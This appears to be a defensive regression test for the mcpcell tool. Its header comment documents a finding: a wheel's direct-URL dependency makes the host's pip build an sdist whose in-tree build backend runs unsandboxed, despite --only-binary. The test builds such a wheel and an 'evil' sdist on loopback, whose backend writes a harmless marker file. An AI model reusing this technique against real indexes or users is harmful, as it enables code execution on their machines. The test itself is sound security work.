// Adversary pass adv21: a uvx:// wheel's direct-URL dependency is built,
// and its build backend runs on the host, despite --only-binary.
//
// Finding (HIGH): mcpcell installs uvx:// packages with the host's pip,
// outside any cell, and relies on `--only-binary=:all:` so that "a source
// distribution's setup.py" never runs on the host (src/source/
// uvx_install.h, uvx_install.cc:76-84). pip applies --only-binary to what
// its finder picks from the index, not to a PEP 508 direct reference: a
// wheel whose METADATA says `Requires-Dist: x @ https://ANYWHERE/x-1.0.tar.gz`
// makes the host pip download that sdist from anywhere (any host the
// machine reaches: the intranet, a metadata address, loopback) and prepare
// it — "Getting requirements to build wheel", "Preparing metadata
// (pyproject.toml)" — which imports the sdist's PEP 517 backend, in-tree
// (`backend-path = ["."]`, `requires = []`: nothing else to fetch), as the
// user, unsandboxed, before any cell exists. pip refuses a direct
// reference only in a package served from PyPI's own file host
// (files.pythonhosted.org: pip/_internal/req/constructors.py), and PyPI
// refuses such uploads; every other index passes them: a private or
// company index (devpi, Artifactory, Nexus, GitLab's, Gemfury's) and what
// it hosts or merges from other upstreams, a compromised index, a man in
// the middle of an http:// one — the "malicious registry" of the threat
// model — runs its code on the user's machine when `mcpcell run uvx://pkg`
// installs the package, whatever the cell or policy. (A `git+https://` or
// `git+ssh://` reference runs git on the host with the user's credential
// helpers and ssh agent: with this host's pip 23.0.1, a `git+http://`
// reference had git ask the address for info/refs.)
//   Reproduce: an index serving top-1.0-py3-none-any.whl with
//   `Requires-Dist: evil @ http://127.0.0.1:P/evil-1.0.tar.gz`; the sdist's
//   pyproject.toml names an in-tree backend whose module writes a file on
//   import; `mcpcell install uvx://top@1.0`: the file is written on the
//   host (by uid 0 here), then pip fails.
//   Fault: src/source/uvx_install.cc:81-84 (pip install on the host; the
//   only guard, --only-binary, does not cover direct references).
//   Suggested fix: run the host pip's install in a native cell of its own
//   (network only to the index hosts, the venv directory its one writable
//   bind, as the install scripts' cells are); and before that, refuse a
//   direct reference: resolve without building (`pip download --no-deps
//   --only-binary=:all:` level by level, mcpcell reading each wheel's
//   METADATA and refusing any `name @ url` Requires-Dist), then install
//   the downloaded wheels with `--no-index --no-deps`.
//
// Bounded: one small wheel and one small sdist from 127.0.0.1; the marker
// directory is removed after.

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import path from 'node:path';
import { after, test } from 'node:test';

import { startFileIndex } from './lib/file_index.mjs';
import { runMcpcell, skipWithoutCell } from './lib/mcpcell.mjs';
import { pipConfigHome } from './lib/pypi_index.mjs';
import { makeTempDir, makeWritableDir, removeTempDirs } from './lib/tmp.mjs';

const id = randomBytes(3).toString('hex');
after(removeTempDirs);

/**
 * Builds, in `dir`, the wheel of `dist` 1.0 requiring `requires` (a PEP 508
 * line) and the sdist evil-1.0.tar.gz whose in-tree build backend writes
 * `marker` when imported. Returns {wheel, sdist} (file names).
 */
function buildPackages(dir, dist, requires, marker) {
  const script = `
import base64, hashlib, io, os, sys, tarfile, zipfile
outdir, dist, requires, marker = sys.argv[1:5]
esc = dist.replace('-', '_')
info = f'{esc}-1.0.dist-info'
files = {
    f'{esc}.py': b'def main():\\n    pass\\n',
    f'{info}/METADATA': f'Metadata-Version: 2.1\\nName: {dist}\\nVersion: 1.0\\nRequires-Dist: {requires}\\n'.encode(),
    f'{info}/WHEEL': b'Wheel-Version: 1.0\\nGenerator: adv21\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n',
    f'{info}/entry_points.txt': f'[console_scripts]\\n{dist} = {esc}:main\\n'.encode(),
}
rec = lambda p, d: f"{p},sha256={base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b'=').decode()},{len(d)}"
files[f'{info}/RECORD'] = ('\\n'.join([rec(p, d) for p, d in files.items()] + [f'{info}/RECORD,,']) + '\\n').encode()
wheel = f'{esc}-1.0-py3-none-any.whl'
with zipfile.ZipFile(os.path.join(outdir, wheel), 'w', zipfile.ZIP_DEFLATED) as z:
    for p, d in files.items():
        z.writestr(p, d)
backend = ('import os, socket\\n'
           f'open({marker!r}, "w").write("the sdist\\'s build backend ran on the host: uid %d pid %d host %s\\\\n" '
           '% (os.getuid(), os.getpid(), socket.gethostname()))\\n')
sdist = {
    'evil-1.0/pyproject.toml': b'[build-system]\\nrequires = []\\nbuild-backend = "adv21backend"\\nbackend-path = ["."]\\n',
    'evil-1.0/adv21backend.py': backend.encode(),
    'evil-1.0/PKG-INFO': b'Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n',
}
with tarfile.open(os.path.join(outdir, 'evil-1.0.tar.gz'), 'w:gz') as t:
    for p, d in sdist.items():
        ti = tarfile.TarInfo(p)
        ti.size = len(d)
        ti.mode = 0o644
        t.addfile(ti, io.BytesIO(d))
print(wheel)
`;
  const wheel = execFileSync('/usr/bin/python3', ['-c', script, dir, dist, requires, marker], { encoding: 'utf8' }).trim();
  return { wheel, sdist: 'evil-1.0.tar.gz' };
}

test('adv21: a uvx:// wheel\'s direct-URL sdist dependency runs no build code on the host', {
  timeout: 180_000,
}, async (t) => {
  if (await skipWithoutCell(t)) return;
  const dist = `e2e-adv21-direct-${id}`;
  const markers = makeWritableDir('adv21-marker');
  t.after(() => rmSync(markers, { recursive: true, force: true }));
  const marker = path.join(markers, 'ran-on-host');
  const dir = makeTempDir('adv21-direct');
  const files = new Map();
  const index = await startFileIndex(dist, files, [`${dist.replace(/-/g, '_')}-1.0-py3-none-any.whl`]);
  t.after(() => index.close());
  const pkgs = buildPackages(dir, dist, `evil @ ${index.base}/files/evil-1.0.tar.gz`, marker);
  for (const f of [pkgs.wheel, pkgs.sdist]) files.set(f, readFileSync(path.join(dir, f)));
  const { env } = pipConfigHome(index.url, 'adv21-direct');
  const r = await runMcpcell(['install', `uvx://${dist}@1.0`], { env, guardMs: 150_000 });
  t.diagnostic(`exit ${r.code}; requests: ${index.requests.join(', ')}\n${r.stderr.split('\n').filter((l) => /Collecting|Preparing|Getting|ERROR/.test(l)).join('\n')}`);
  assert.ok(index.requests.includes(`/files/${pkgs.wheel}`), `pip fetched the wheel (test setup): ${r.stderr.slice(-600)}`);
  const ran = existsSync(marker) ? readFileSync(marker, 'utf8').trim() : '';
  assert.equal(ran, '', `code from a direct-URL sdist ran outside any cell: "${ran}"`);
});
